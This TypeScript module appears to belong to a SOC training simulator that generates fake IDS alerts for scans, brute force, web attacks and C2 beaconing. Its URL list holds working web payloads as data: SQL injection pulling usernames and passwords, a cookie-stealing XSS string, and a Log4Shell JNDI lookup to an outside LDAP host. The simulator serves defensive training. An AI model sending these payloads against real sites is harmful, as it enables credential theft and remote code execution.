import type { Random } from '../sim/random.js';
import {
  C2_FAMILIES,
  NOISE,
  RDP_BRUTE_FORCE,
  SCAN_BY_PORT,
  SCAN_GENERIC,
  SCAN_PORTS,
  SSH_BRUTE_FORCE,
  WEB_ATTACKS,
  type EveSignature,
} from './soc-signatures.js';
import { randomExternalIp, randomHostIn, type SocNetwork, type SocTarget } from './soc-network.js';

/** One alert the simulator will write as EVE at time `at`: the flow plus what fired. */
export interface PlannedAlert {
  readonly at: number;
  readonly srcIp: string;
  readonly srcPort: number | null;
  readonly destIp: string;
  readonly destPort: number | null;
  readonly proto: 'TCP' | 'UDP' | 'ICMP';
  readonly signature: EveSignature;
  readonly appProto?: string;
  readonly http?: { hostname: string; url: string; userAgent: string; method: string; status: number };
  readonly sni?: string;
}

const MINUTE = 60_000;

export function ephemeralPort(random: Random): number {
  return random.int(32768, 60999);
}

/** `count` instants in [start, start + span), sorted: a burst's alerts are spread, not stacked on one ms. */
function instants(random: Random, start: number, span: number, count: number): number[] {
  return Array.from({ length: count }, () => start + Math.floor(random.next() * span)).sort((a, b) => a - b);
}

function preferPort(targets: readonly SocTarget[], ports: readonly number[], random: Random): SocTarget {
  const matching = targets.filter((t) => ports.includes(t.port));
  return random.pick(matching.length > 0 ? matching : targets);
}

/** One scanner sweeps an agency's addresses across common ports within a minute. */
export function portScan(random: Random, net: SocNetwork, start: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const agency = random.pick(net.agencies);
  // Sweeps hit unused addresses too, not just the published services.
  const hosts = agency.targets.map((t) => t.ip);
  if (agency.range) for (let i = random.int(2, 6); i > 0; i--) hosts.push(randomHostIn(agency.range, random));
  const count = random.int(25, 60);
  const srcPort = ephemeralPort(random); // nmap -sS keeps one source port
  return instants(random, start, random.int(20, 55) * 1000, count).map((at) => {
    const port = random.pick(SCAN_PORTS);
    return {
      at, srcIp: src, srcPort, destIp: random.pick(hosts), destPort: port, proto: 'TCP',
      signature: SCAN_BY_PORT.get(port) ?? SCAN_GENERIC,
    };
  });
}

/** SSH or RDP password guessing: 20+ alerts from one source against one service within a few minutes. */
export function bruteForce(random: Random, net: SocNetwork, start: number, service: 'ssh' | 'rdp', spanMs?: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const port = service === 'ssh' ? 22 : 3389;
  const target = preferPort(net.targets, [port], random);
  const signatures = service === 'ssh' ? SSH_BRUTE_FORCE : RDP_BRUTE_FORCE;
  const count = random.int(22, 60);
  const span = spanMs ?? random.int(90, 240) * 1000;
  return instants(random, start, span, count).map((at, index) => ({
    at, srcIp: src, srcPort: ephemeralPort(random), destIp: target.ip, destPort: port, proto: 'TCP',
    // Mostly the scan rule; every few attempts the tool-specific rule fires as well.
    signature: (index % 7 === 6 ? signatures[1] : signatures[0]) ?? SCAN_GENERIC,
  }));
}

const SQLI_URLS = [
  "/dichvucong/tra-cuu-ho-so?ma=1'+UNION+SELECT+username,password+FROM+users--",
  '/portal/tin-tuc?id=12+UNION+SELECT+NULL,table_name+FROM+information_schema.tables',
  "/api/thu-tuc?linhvuc=1'+AND+1=(SELECT+COUNT(*)+FROM+sysobjects)--",
  '/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/login?redirect=${jndi:ldap://203.0.113.66:1389/a}',
];
const ATTACK_AGENTS = ['sqlmap/1.8.4#stable (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nuclei/3.2)', 'python-requests/2.31.0'];

/** A web application scanner hammering one portal with injection payloads over a few minutes. */
export function webAttack(random: Random, net: SocNetwork, start: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const target = preferPort(net.targets, [80, 8080, 8000, 443, 8443], random);
  // The IDS reads cleartext HTTP only: TLS services are seen on their plain-HTTP sibling port.
  const port = [80, 8080, 8000].includes(target.port) ? target.port : 80;
  const agent = random.pick(ATTACK_AGENTS);
  return instants(random, start, random.int(2, 8) * MINUTE, random.int(8, 30)).map((at) => {
    const url = random.pick(SQLI_URLS);
    const signature = url.includes('jndi') ? WEB_ATTACKS[3] : url.includes('script') ? WEB_ATTACKS[2] : random.pick(WEB_ATTACKS.slice(0, 2));
    return {
      at, srcIp: src, srcPort: ephemeralPort(random), destIp: target.ip, destPort: port, proto: 'TCP',
      signature: signature ?? SCAN_GENERIC, appProto: 'http',
      http: { hostname: target.ip, url, userAgent: agent, method: random.chance(0.7) ? 'GET' : 'POST', status: random.pick([200, 403, 404, 500]) },
    };
  });
}

/** An infected internal host calling its C2 server at a steady interval with a little jitter. */
export function c2Beacon(random: Random, net: SocNetwork, start: number, durationMs?: number): PlannedAlert[] {
  const victim = random.pick(net.targets);
  const server = random.pick(net.c2Servers);
  const family = random.pick(C2_FAMILIES);
  const port = random.pick([443, 443, 8080, 80]);
  const interval = random.int(60, 300) * 1000;
  const end = start + (durationMs ?? random.int(20, 120) * MINUTE);
  const plans: PlannedAlert[] = [];
  for (let at = start; at < end; at += Math.round(interval * random.range(0.9, 1.1))) {
    plans.push({
      at, srcIp: victim.ip, srcPort: ephemeralPort(random), destIp: server, destPort: port, proto: 'TCP',
      signature: family.signature,
      ...(port === 443
        ? { appProto: 'tls', sni: family.sni }
        : { appProto: 'http', http: { hostname: family.sni, url: family.uri, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko', method: 'GET', status: 200 } }),
    });
  }
  return plans;
}

const NOISE_TOTAL = NOISE.reduce((sum, n) => sum + n.weight, 0);

/** One background alert: reputation hits, pings, stream anomalies, policy events. */
export function noiseAlert(random: Random, net: SocNetwork, at: number): PlannedAlert {
  let roll = random.next() * NOISE_TOTAL;
  const noise = NOISE.find((n) => (roll -= n.weight) < 0) ?? NOISE[0];
  if (!noise) throw new Error('empty noise table');
  const target = random.pick(net.targets);
  // Known attackers account for some of the background, so they recur across the day.
  const outside = random.chance(0.3) ? random.pick(net.attackers) : randomExternalIp(random);
  const icmp = noise.proto === 'ICMP';
  const inbound = noise.direction === 'inbound';
  const destPort = icmp ? null : (noise.port ?? (inbound ? target.port : 443));
  return {
    at,
    srcIp: inbound ? outside : target.ip,
    srcPort: icmp ? null : ephemeralPort(random),
    destIp: inbound ? target.ip : outside,
    destPort,
    proto: noise.proto,
    signature: noise.signature,
    ...(noise.appProto ? { appProto: noise.appProto } : {}),
  };
}
